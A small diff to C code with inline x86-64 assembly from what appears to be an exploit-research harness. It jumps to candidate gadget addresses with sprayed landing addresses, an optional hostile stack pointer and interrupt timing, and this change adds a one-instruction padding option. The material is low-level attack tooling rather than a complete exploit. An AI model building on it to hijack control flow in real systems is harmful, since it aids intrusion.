@@ -10,7 +10,8 @@
 uint64_t gadget_jump_asm(struct sweep_shot *s);
 
 /* Saves the callee-saved registers and RFLAGS, sprays 64 landing
- * addresses, loads every register, jumps. `landing` (reached by any ret)
+ * addresses, loads every register, jumps (with irq, after `delay` turns
+ * of a two-instruction loop with interrupts on, and `pad` one more). `landing` (reached by any ret)
  * stores RAX, restores the stack and flags and returns 0. A fault instead
  * goes to the harness's recovery point. */
 __asm__(
@@ -34,6 +35,9 @@ __asm__(
     "	sti\n"
     "2:	dec %rcx\n"
     "	jnz 2b\n"
+    "	cmpq $0, 168(%rdi)\n" /* pad: shifts the jump by one instruction */
+    "	je 3f\n"
+    "	nop\n"
     "3:	cmpq $0, 136(%rdi)\n" /* rsp_hostile */
     "	je 4f\n"
     "	mov 40(%rdi), %rsp\n"
@@ -61,6 +65,7 @@ __asm__(
 _Static_assert(__builtin_offsetof(struct sweep_shot, rsp_hostile) == 136, "shot layout");
 _Static_assert(__builtin_offsetof(struct sweep_shot, irq) == 144, "shot layout");
 _Static_assert(__builtin_offsetof(struct sweep_shot, rax_after) == 160, "shot layout");
+_Static_assert(__builtin_offsetof(struct sweep_shot, pad) == 168, "shot layout");
 
 static long jump(struct attack_ctx *c)
 {
